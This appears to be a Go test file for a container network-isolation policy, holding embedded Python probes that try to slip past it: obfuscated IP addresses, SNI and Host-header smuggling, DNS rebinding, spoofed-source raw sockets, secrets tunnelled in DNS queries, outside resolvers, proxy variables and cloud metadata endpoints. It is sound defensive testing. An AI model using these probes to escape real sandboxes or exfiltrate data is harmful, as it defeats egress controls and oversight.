//go:build linux && amd64 && !race

package isolation

// prelude is in front of every attack. An attack prints LEAK when something
// of the outside answers that must not.
const prelude = `
import os, socket, ssl, struct, sys, urllib.request
socket.setdefaulttimeout(20)
def leak(*a): print('LEAK', *a, flush=True)
def tcp(host, port, data=b'GET / HTTP/1.0\r\nHost: x\r\n\r\n'):
    try:
        s = socket.create_connection((host, port))
        s.sendall(data); got = s.recv(4096); s.close()
        if got: leak(host, port, got[:80])
        return got
    except OSError as e:
        print('refused', host, port, e, flush=True)
        if isinstance(e, TimeoutError): print('HUNG', host, port, flush=True)
def tls(addr, name):
    c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
    try:
        s = c.wrap_socket(socket.create_connection((addr, 443)), server_hostname=name)
        s.sendall(b'GET / HTTP/1.0\r\n\r\n'); leak(addr, name, s.recv(4096)[:80])
    except OSError as e:
        print('refused', addr, name, e, flush=True)
def udp(host, port, data=b'x'):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
    try:
        s.connect((host, port)); s.send(data); got = s.recv(4096)
        leak(host, port, got[:80])
    except OSError as e:
        print('refused', host, port, e, flush=True)
def query(name, qtype=1, qclass=1):
    q = b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\0'
    return struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0) + q + struct.pack('>HH', qtype, qclass)
def ask(server, q, over_tcp=False):
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if over_tcp else socket.SOCK_DGRAM); s.settimeout(5)
        s.connect((server, 53)); s.sendall(struct.pack('>H', len(q)) + q if over_tcp else q)
        r = s.recv(4096); r = r[2:] if over_tcp else r
        print('rcode', r[3] & 15, 'answers', r[7], flush=True)
        if r[7]: leak('answer of', server, r)
    except OSError as e:
        print('refused', server, e, flush=True)
`

// attack is an attempt to reach, or tell, what the policy does not allow.
type attack struct {
	name   string
	script string
	sudo   bool
	log    []string // each must match a refusal in the log, as refusals formats them
}

// Names and addresses of the outside: policy allows allowed.test, rebind.test
// and inward.test alone.
const (
	allowedAddr = "93.184.0.1"
	blockedAddr = "93.184.0.2"
)

// attacks come to nothing under a policy of names, and under deny-all.
var attacks = []attack{
	{name: "a forbidden name", script: `
tcp('blocked.test', 80); tcp('BLOCKED.TEST.', 80); tcp('xallowed.test', 80); tcp('allowed.test.blocked.test', 80)`,
		log: []string{`dns blocked\.test `, `dns allowed\.test\.blocked\.test `}},
	{name: "an address in place of a name", script: `
for p in (22, 80, 443, 9999): tcp('93.184.0.2', p)`,
		log: []string{`tcp 93\.184\.0\.2:22 `, `tcp 93\.184\.0\.2:9999 `}},
	{name: "addresses in disguise", script: `
for h in ('0x5db80002', '1572339714', '0135.0270.0.02', '93.12058626', '0x5d.0xb8.2'): tcp(h, 80)`,
		log: []string{`tcp 93\.184\.0\.2:80 `}},
	{name: "another server's name at an allowed address", script: `
try: a = socket.gethostbyname('allowed.test')
except OSError: a = '93.184.0.1'
for n in ('blocked.test', 'allowed.test.blocked.test', 'xallowed.test'): tls(a, n)`,
		log: []string{`(server name|deny-all)`}},
	{name: "TLS that names no server", script: `
try: a = socket.gethostbyname('allowed.test')
except OSError: a = '93.184.0.1'
tls(a, None)`,
		log: []string{`(server name|deny-all)`}},
	{name: "another host's name in a request to an allowed address", script: `
for r in (b'GET / HTTP/1.1\r\nHost: blocked.test\r\n\r\n', b'GET http://blocked.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n', b'GET / HTTP/1.1\r\nHost: allowed.test\r\nHost: blocked.test\r\n\r\n', b'\r\nGET / HTTP/1.1\r\nhost:blocked.test\r\n\r\n'):
    try:
        s = socket.create_connection(('allowed.test', 80)); s.sendall(r); got = s.recv(4096)
        if b'OUTSIDE' in got: leak(r, got)
        print(got[:60])
    except OSError as e: print(e)`,
		log: []string{`\S+ .*(blocked\.test|allowed\.test)`}},
	{name: "an allowed name that leads to private addresses", script: `
for i in range(12):
    for p in (80, 8099):
        try:
            s = socket.create_connection(('rebind.test', p), 20); at = s.getpeername()[0]
            if at != '93.184.0.1': leak(at)
            s.close()
        except OSError as e: print(e)
tcp('inward.test', 80); tcp('inward6.test', 80)`,
		log: []string{`dns (rebind\.test|inward\.test) .*(private range|metadata service|loopback|host address|deny-all)`}},
	{name: "IPv6", script: `
for h in ('2606:4700::1111', '::ffff:93.184.0.2', '64:ff9b::5db8:2', '2002:5db8:2::1', 'fe80::1', 'fd00:ec2::254'): tcp(h, 80)`,
		log: []string{`tcp 93\.184\.0\.2:80 `}}, // the mapped one is IPv4 on the wire; the others find no route
	{name: "UDP and QUIC", script: `
try: a = socket.gethostbyname('allowed.test')
except OSError: a = '93.184.0.1'
for h in (a, '93.184.0.2'):
    udp(h, 443); udp(h, 9999)`,
		log: []string{`udp 93\.184\.0\.2:443 .*(udp|deny-all)`, `udp (allowed\.test )?93\.184\.0\.1:9999 `}},
	{name: "broadcast and multicast", script: `
for h in ('255.255.255.255', '10.88.0.255', '224.0.0.251', '239.1.1.1'):
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1); s.settimeout(1)
        s.sendto(b'x', (h, 5353)); leak(s.recv(100))
    except OSError as e: print(e)`,
		log: []string{`udp 255\.255\.255\.255:5353 `, `udp 239\.1\.1\.1 multicast`, `udp 224\.0\.0\.251 multicast`}},
	{name: "ping", script: `
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP); s.settimeout(2)
try:
    s.sendto(struct.pack('!BBHHH', 8, 0, 0xf7fd, 1, 1), ('93.184.0.1', 0)); leak(s.recv(100))
except OSError as e: print(e)`,
		log: []string{`icmp 93\.184\.0\.1 .*protocol`}},
	{name: "raw sockets and false senders", sudo: true, script: `
for k in ((socket.AF_INET, socket.SOCK_RAW, 255), (socket.AF_INET, socket.SOCK_RAW, 1), (17, socket.SOCK_RAW, 0x300), (socket.AF_INET6, socket.SOCK_RAW, 58)):
    try: socket.socket(*k); leak('raw socket', k)
    except OSError as e: print(e)
for opt in (None, 15, 19): # IP_FREEBIND, IP_TRANSPARENT
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        if opt: s.setsockopt(0, opt, 1)
        s.bind(('8.8.8.8', 0)); s.sendto(b'x', ('93.184.0.2', 443)); leak('false sender')
    except OSError as e: print(e)`},
	{name: "secrets in look-ups", script: `
secret = 'x' * 60
for n in ('s3cret.blocked.test', '.'.join([secret] * 3) + '.blocked.test', 's3cret.allowed.test'):
    for t in (1, 5, 15, 16, 28, 33, 65, 99, 255, 252): ask('10.88.0.1', query(n, t))
    ask('10.88.0.1', query(n, 16), over_tcp=True)
ask('10.88.0.1', query('allowed.test', 16, 3)); ask('10.88.0.1', query('allowed.test', 255)); ask('10.88.0.1', query('version.bind', 16, 3))
for labels in ([b'allowed.test'], [b'allowed.test\0', b'blocked', b'test'], [b'allowed', b'test.blocked', b'test'], [b's3cret\\', b'allowed', b'test']):
    q = query('x'); ask('10.88.0.1', q[:12] + b''.join(bytes([len(l)]) + l for l in labels) + b'\0' + q[-4:])`,
		log: []string{`dns s3cret\.blocked\.test `, `dns s3cret\.allowed\.test `, `dns (x+\.)+blocked\.test `, `dns allowed\.test .*dns query`}},
	{name: "other resolvers", script: `
for s in ('8.8.8.8', '9.9.9.53', '93.184.0.1'):
    ask(s, query('s3cret.blocked.test', 16)); ask(s, query('s3cret.blocked.test', 16), over_tcp=True)
tls('8.8.8.8', 'dns.google'); tls('1.1.1.1', None); tcp('8.8.8.8', 853)`,
		log: []string{`udp 8\.8\.8\.8:53 `, `tcp 8\.8\.8\.8:53 `, `tcp 8\.8\.8\.8:443 `, `tcp 8\.8\.8\.8:853 `}},
	{name: "a proxy in the environment", script: `
os.environ.update(http_proxy='http://93.184.0.2:80', https_proxy='http://93.184.0.2:80')
for u in ('http://blocked.test/', 'https://blocked.test/', 'http://allowed.test/'):
    try: leak(urllib.request.urlopen(u).read())
    except OSError as e: print(e)`,
		log: []string{`tcp 93\.184\.0\.2:80 `}},
}

// closed come to nothing under every policy.
var closed = []attack{
	{name: "the gateway and its neighbours", script: `
for h in ('10.88.0.1', '10.88.0.3', '10.88.0.254'):
    for p in (22, 80, 443, 7777, 61000): tcp(h, p)
    udp(h, 443)`,
		log: []string{`tcp 10\.88\.0\.1:61000 .*internal network`, `tcp 10\.88\.0\.3:80 `, `udp 10\.88\.0\.1:443 `}},
	{name: "the host", script: `
for p in (22, 80, int(sys.argv[1])): tcp('172.31.255.1', p)
for h in ('0.0.0.0', '127.0.0.53', '0x7f000001'): tcp(h, int(sys.argv[1]))
udp('172.31.255.1', 53)`,
		log: []string{`tcp 172\.31\.255\.1:22 .*host address`, `udp 172\.31\.255\.1:53 `}},
	{name: "private and reserved ranges", script: `
for h in ('10.0.0.1', '172.31.255.2', '192.168.1.1', '100.64.0.1', '198.18.0.1', '192.0.2.1', '203.0.113.1', '240.0.0.1', '192.0.0.1', '192.88.99.1'): tcp(h, 80)`,
		log: []string{`tcp 10\.0\.0\.1:80 (private range|deny-all)`, `tcp 198\.18\.0\.1:80 (benchmarking range|deny-all)`, `tcp 240\.0\.0\.1:80 .*reserved`}},
	{name: "metadata services", script: `
for h in ('169.254.169.254', '169.254.170.2', '100.100.100.200', '168.63.129.16', '192.0.0.192'): tcp(h, 80)`,
		log: []string{`tcp 169\.254\.169\.254:80 .*metadata service`, `tcp 168\.63\.129\.16:80 .*metadata service`}},
	{name: "the agent's port from inside", sudo: true, script: `
for h in ('127.0.0.1', '10.88.0.2'): tcp(h, 61000, b'\0' * 64)`},
	{name: "what the server denies", script: `
tcp('denied.test', 80); tcp('x.denied.test', 80); tcp('toDenied.test', 80); tcp('93.184.7.7', 80); tls('93.184.0.1', 'denied.test')`,
		log: []string{`dns denied\.test .*server denies`, `tcp 93\.184\.7\.7:80 .*server denies`}},
}
